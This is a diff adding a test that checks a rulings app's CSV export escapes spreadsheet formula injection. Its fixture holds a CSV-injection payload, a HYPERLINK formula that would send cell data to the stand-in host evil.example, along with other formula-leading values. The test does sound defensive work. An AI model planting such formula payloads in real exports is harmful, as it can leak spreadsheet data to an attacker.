@@ -98,6 +98,26 @@ def test_csv_export_of_a_filtered_list(persona_client: Any, director: Any) -> No
     ]
 
 
+def test_csv_export_keeps_formulas_from_running_in_a_spreadsheet(
+    persona_client: Any, director: Any
+) -> None:
+    """OWASP CSV injection: a cell a spreadsheet would run as a formula opens as text."""
+    table = make_table(number=6)
+    log_ruling(
+        table=table,
+        director=director,
+        situation='=HYPERLINK("http://evil.example/?"&A1,"click")',
+        decision="-2+3 chips returned; @SUM(A1) is not a formula",
+        citations=[("TDA-45", "+1")],
+    )
+    response = persona_client("staff").get("/rulings/export.csv?table=6")
+    (row,) = csv.DictReader(io.StringIO(response.content.decode()))
+    assert row["situation"] == """'=HYPERLINK("http://evil.example/?"&A1,"click")"""
+    assert row["decision"] == "'-2+3 chips returned; @SUM(A1) is not a formula"
+    assert row["citations"] == "TDA-45 (+1)"  # starts with a letter: left alone
+    assert row["table"] == "6"
+
+
 def test_api_creates_lists_and_refuses_edits(api_client_for: Any) -> None:
     make_table(number=4)
     client = api_client_for("director")
